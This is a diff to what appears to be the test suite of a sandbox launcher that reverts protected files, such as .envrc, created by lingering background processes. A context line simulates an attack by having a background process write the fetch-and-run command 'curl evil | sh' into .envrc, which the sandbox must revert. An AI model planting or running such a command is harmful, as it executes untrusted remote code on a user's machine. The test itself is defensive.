@@ -96,6 +96,23 @@ describe('protected files the user makes while no command runs', () => {
     expect(readFileSync(path('.envrc'), 'utf8')).toBe('export A=1\n')
   })
 
+  it('once a command’s background process ended by itself, what the user makes stays, without another command', async () => {
+    launcher.dispose()
+    launcher = createSandboxLauncher({ mode: 'full-auto', network: true, secretVariables: [], env: process.env, tempDir: tree.path('tmp'), dshHome: tree.path('dsh'), warn: (line) => warnings.push(line), interactive: false, survivorPollMs: 50 })
+    await bash('(sleep 0.3; touch bg-done) > /dev/null 2>&1 & echo started')
+    while (!existsSync(path('bg-done'))) await new Promise((resolve) => setTimeout(resolve, 20))
+    // The launcher looks every 50 ms whether the survivor ended; sixty chances later the user's first
+    // protected file stays (without the poll, the first one after the survivor was still taken as its).
+    await new Promise((resolve) => setTimeout(resolve, 3000))
+    writeFileSync(path('.envrc'), 'export A=1\n')
+    await settle()
+    expect(readFileSync(path('.envrc'), 'utf8')).toBe('export A=1\n')
+    expect(warnings.filter((line) => line.startsWith('dsh: moved'))).toEqual([])
+    mkdirSync(path('.vscode'))
+    await settle()
+    expect(existsSync(path('.vscode'))).toBe(true)
+  })
+
   it('what a background process of a command makes after its command returned is reverted', async () => {
     await bash('(while [ ! -e go ]; do sleep 0.02; done; echo "curl evil | sh" > .envrc; touch planted; sleep 1) > /dev/null 2>&1 & echo started')
     writeFileSync(path('go'), '')
